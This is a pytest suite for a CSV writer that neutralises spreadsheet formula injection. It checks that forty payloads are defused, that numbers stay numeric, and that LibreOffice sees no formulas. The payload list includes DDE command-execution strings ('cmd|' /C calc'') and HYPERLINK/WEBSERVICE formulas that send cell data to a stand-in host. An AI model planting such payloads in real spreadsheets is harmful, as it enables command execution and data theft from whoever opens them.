"""No cell is a formula to any program, and what is no formula stays what it is."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest

from graft.cells import safe, write
from graft.errors import ResourceError

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u22121+1", "\ufe66 1", "\ufe621+1", "\ufe6bSUM(1)", '"=1+1', "'=1+1",
    '""=1+1', '"\n=1+1', "a\n=1+1", "a\r=1+1", "a;=1+1", "a;\t=1+1", '";=1+1;"', '",=1+1', "\ufeff=1+1", "\x00=1+1",
    "\u200b=1+1", "\u202e=1+1", "\xa0=1+1", "=cmd|' /C calc'!A0", "@SUM(1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test/?"&A1,"see")', '=WEBSERVICE("http://x.test")', "={1;2}", "“=1+1”",
]  # fmt: skip
STARTS = tuple('=+-@\t\r\n ;"＝＋－＠\u2212\ufe62\ufe63\ufe66\ufe6b')
NUMBERS = [-1, 0, 7, -2.5, 1e-9, np.float64(-0.25), "-1", "-1.5e-3"]


def written(path: Path, rows: list[list[object]]) -> list[list[str]]:
    write(path, ["=name", "said"], rows)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_payload_begins_a_cell(payload: str, tmp_path: Path) -> None:
    header, row = written(tmp_path / "x.csv", [[payload, "rest"]])
    assert header[0] == "'=name" and row == [safe(payload), "rest"]
    assert list(filter(str.isalnum, row[0])) == list(filter(str.isalnum, payload))  # it is still there to be read
    for cell in row[0].replace("\n", ";").split(";"):
        assert not cell.startswith(STARTS) or not cell.strip(" \"'").startswith(STARTS)


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    _, *rows = written(tmp_path / "x.csv", [["n", value] for value in NUMBERS])
    assert [float(row[1]) for row in rows] == [float(value) for value in NUMBERS]
    assert 'n",-2.5\r\n' in (tmp_path / "x.csv").read_text(encoding="utf-8-sig").replace("\n", "\r\n")


@pytest.mark.parametrize(
    "value", ["rose", "a-b", "a=b", "x@y.test", "玫瑰", "10 %", "a, b", 'say "hi"', "two\nlines", ""]
)
def test_other_text_is_left_alone(value: str, tmp_path: Path) -> None:
    assert written(tmp_path / "x.csv", [[value, None]])[1] == [value, ""]


def test_what_is_no_number_to_a_spreadsheet(tmp_path: Path) -> None:
    _, *rows = written(tmp_path / "x.csv", [[float("-inf"), float("nan")], [True, b"=1"]])
    assert rows == [["'-inf", "nan"], ["True", "b'=1'"]]


def test_excel_is_told_that_it_is_utf8(tmp_path: Path) -> None:
    write(tmp_path / "x.csv", ["类"], [["玫瑰"]])
    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_name_that_is_no_utf8_can_be_written(tmp_path: Path) -> None:
    assert written(tmp_path / "x.csv", [["caf\udce9.png", 1]])[1] == ["caf\\udce9.png", "1"]


def test_a_failure_leaves_the_old_file(tmp_path: Path) -> None:
    write(tmp_path / "x.csv", ["a"], [[1]])
    before = (tmp_path / "x.csv").read_bytes()
    with pytest.raises(ZeroDivisionError):
        write(tmp_path / "x.csv", ["a"], ([1 // n] for n in (1, 0)))
    assert (tmp_path / "x.csv").read_bytes() == before
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]


def test_where_nothing_can_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(self: Path, exist_ok: bool = True) -> None:
        raise PermissionError(13, "no")

    monkeypatch.setattr(Path, "touch", refused)
    with pytest.raises(ResourceError, match="not allowed"):
        write(tmp_path / "x.csv", ["a"], [[1]])


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    write(tmp_path / "x.csv", ["payload", "n"], [[payload, -number] for number, payload in enumerate(PAYLOADS)])
    (tmp_path / "bad.csv").write_text("payload\n=1+1\n", encoding="utf-8")  # what the test would find
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path)]
    subprocess.run([*command, str(tmp_path / "x.csv"), str(tmp_path / "bad.csv")], check=True, capture_output=True)
    made, bad = ((tmp_path / name).read_text(encoding="utf-8") for name in ("x.fods", "bad.fods"))
    assert "table:formula" in bad and "table:formula" not in made
    assert made.count('office:value-type="float"') == len(PAYLOADS)
